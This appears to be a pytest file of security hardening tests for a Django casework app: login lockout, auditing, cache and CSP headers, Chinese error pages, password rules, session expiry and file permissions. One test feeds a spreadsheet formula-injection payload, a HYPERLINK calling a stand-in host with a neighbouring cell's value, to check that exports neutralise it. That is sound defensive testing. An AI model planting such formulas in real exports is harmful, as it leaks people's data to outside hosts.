"""Hardening, tried as an attacker would: guessing passwords, reading a shared computer's cache, formula cells
in exports, the refusal pages, and the production settings."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError

from jiuzhu.app.accounts.models import AuditEvent
from tests.fixtures.cases import make_clue
from tests.fixtures.personas import PASSWORD

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[3]


def test_twenty_wrong_passwords_then_the_right_one_is_refused(client, alice):
    for i in range(20):
        client.post("/login/", {"username": "alice", "password": f"wrong-{i}"})
    page = client.post("/login/", {"username": "alice", "password": PASSWORD})
    assert page.status_code == 429
    text = page.content.decode()
    assert "登录已暂时锁定" in text and "连续输错 5 次" in text and "30 分钟后" in text
    assert client.get("/").status_code == 302  # not logged in
    # 4 failures, the 5th locks the account out at this address; it and the 16 after it are refused.
    assert AuditEvent.objects.filter(action="login_failed", object_id=str(alice.pk)).count() == 4
    assert AuditEvent.objects.filter(action="locked_out", object_id=str(alice.pk)).count() == 17
    assert not AuditEvent.objects.filter(action="login").exists()
    # The typed name is kept only as a keyed hash.
    assert all(e.detail["typed"].startswith("hmac:") for e in AuditEvent.objects.filter(action="login_failed"))


def test_login_and_logout_are_audited(client, alice):
    assert client.post("/login/", {"username": "alice", "password": PASSWORD}).status_code == 302
    client.post("/logout/")
    rows = list(AuditEvent.objects.filter(action__in=("login", "logout")).order_by("seq")
                .values_list("username", "action", "ip"))
    assert rows == [("alice", "login", "127.0.0.1"), ("alice", "logout", "127.0.0.1")]


def test_personal_pages_and_downloads_are_not_cached_and_carry_a_csp(client, alice):
    client.force_login(alice)
    page = client.get("/casework/")
    assert page.status_code == 200
    assert page["Cache-Control"] == "no-store, private"
    csp = page["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "style-src 'self'" in csp and "'unsafe-inline'" not in csp
    assert "<style" not in page.content.decode() and " style=" not in page.content.decode()
    assert "no-store" in client.get("/login/")["Cache-Control"]


def test_403_page_is_chinese_and_says_why(client, frank):
    client.force_login(frank)
    page = client.get("/casework/calendar/")
    assert page.status_code == 403
    text = page.content.decode()
    assert "无权访问（403）" in text and "原因：您的角色不能使用这个页面" in text and "已记入审计记录" in text
    assert "403 Forbidden" not in text


def test_403_names_what_was_refused(client, frank, alice):
    from jiuzhu.app.casework.services.acceptance import accept_case

    case = accept_case(by=alice, handler=alice, person_name="郑小梅", category="severe_injury")
    client.force_login(frank)
    page = client.get(f"/casework/{case.pk}/")
    assert page.status_code == 403
    assert "原因：这件案件不属于您的单位，或不在您的职责范围内" in page.content.decode()


def test_404_page_is_chinese(client, alice):
    client.force_login(alice)
    page = client.get("/no-such-page/")
    assert page.status_code == 404 and "页面不存在（404）" in page.content.decode()


def test_csrf_refusal_is_chinese(alice):
    from django.test import Client

    page = Client(enforce_csrf_checks=True).post("/login/", {"username": "alice", "password": PASSWORD})
    assert page.status_code == 403
    assert "页面已过期" in page.content.decode() or "Cookie" in page.content.decode()


@pytest.mark.parametrize("password", ["jiuzhu2026", "12345678901234", "abcdefghijklmnop", "alice-alice-alice"])
def test_weak_passwords_are_refused(password, alice):
    with pytest.raises(ValidationError):
        validate_password(password, user=alice)


def test_a_strong_password_passes(alice):
    validate_password("Jiuzhu-county-2026", user=alice)


def test_idle_sessions_expire(settings):
    assert settings.SESSION_COOKIE_AGE == 30 * 60 and settings.SESSION_EXPIRE_AT_BROWSER_CLOSE


def _session_end(client):
    from django.contrib.sessions.models import Session

    return Session.objects.get(session_key=client.session.session_key).expire_date


def test_a_request_renews_the_session_at_most_once_a_minute(client, alice, monkeypatch):
    from jiuzhu.app.web import middleware

    clock = [1_900_000_000]
    monkeypatch.setattr(middleware.time, "time", lambda: clock[0])
    client.force_login(alice)
    assert client.get("/").status_code == 200
    first = _session_end(client)
    clock[0] += 59
    assert client.get("/").status_code == 200
    assert _session_end(client) == first  # within the minute: the session row is not written
    clock[0] += 1
    assert client.get("/").status_code == 200
    assert _session_end(client) > first  # a minute on: its end moves forward
    assert client.session[middleware.RENEWED_AT] == 1_900_000_060


def test_a_session_idle_past_its_age_is_logged_out(client, alice):
    from django.contrib.sessions.models import Session
    from django.utils import timezone

    client.force_login(alice)
    assert client.get("/").status_code == 200
    Session.objects.filter(session_key=client.session.session_key).update(expire_date=timezone.now())
    response = client.get("/")
    assert response.status_code == 302 and response["Location"].startswith("/login/")


def test_clue_export_neutralises_formula_cells(db, tmp_path):
    from openpyxl import load_workbook

    from jiuzhu.app.clues.export import write_csv, write_xlsx

    attack = '=HYPERLINK("http://x.example/?"&D2,"点此")'
    make_clue(person_name=attack, reason="@SUM(1)", suggested_help="+1")
    write_csv(tmp_path / "c.csv")
    write_xlsx(tmp_path / "c.xlsx")
    row = list(csv.DictReader((tmp_path / "c.csv").open(encoding="utf-8")))[0]
    assert row["person_name"] == "'" + attack and row["reason"] == "'@SUM(1)"
    ws = load_workbook(tmp_path / "c.xlsx").active
    assert ws["C2"].value == "'" + ws["C2"].value[1:] and ws["C2"].data_type == "s"
    assert ws["C2"].value == "'" + attack


def test_production_settings_pass_check_deploy(tmp_path):
    env = {**os.environ, "JIUZHU_HOME": str(tmp_path), "JIUZHU_HTTPS": "1",
           "JIUZHU_ALLOWED_HOSTS": "jiuzhu.example.gov.cn", "DJANGO_SETTINGS_MODULE": "jiuzhu.app.settings",
           "PYTHONPATH": str(ROOT)}
    env.pop("JIUZHU_DEBUG", None)
    env.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)  # set in this process by the browser tests' conftest, not in production
    done = subprocess.run([sys.executable, "-m", "django", "check", "--deploy", "--fail-level", "WARNING"],
                          env=env, capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "no issues" in done.stdout


def test_files_in_the_home_are_the_owners_alone(tmp_path, settings):
    assert (settings.FILE_UPLOAD_PERMISSIONS, settings.FILE_UPLOAD_DIRECTORY_PERMISSIONS) == (0o600, 0o700)
    old = tmp_path / "uploads" / "old.xlsx"  # as an older release left it
    old.parent.mkdir(mode=0o755)
    old.write_bytes(b"x")
    old.chmod(0o644)
    tmp_path.chmod(0o755)
    env = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}
    env.update(JIUZHU_HOME=str(tmp_path), PYTHONPATH=str(ROOT))
    done = subprocess.run([sys.executable, "-m", "jiuzhu.cli.main", "init"], env=env, capture_output=True,
                          text=True, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    for name in ("jiuzhu.sqlite3", "secret_key", "audit_key"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
    assert stat.S_IMODE(tmp_path.stat().st_mode) & 0o077 == 0
    assert stat.S_IMODE(old.stat().st_mode) == 0o600 and stat.S_IMODE(old.parent.stat().st_mode) == 0o700
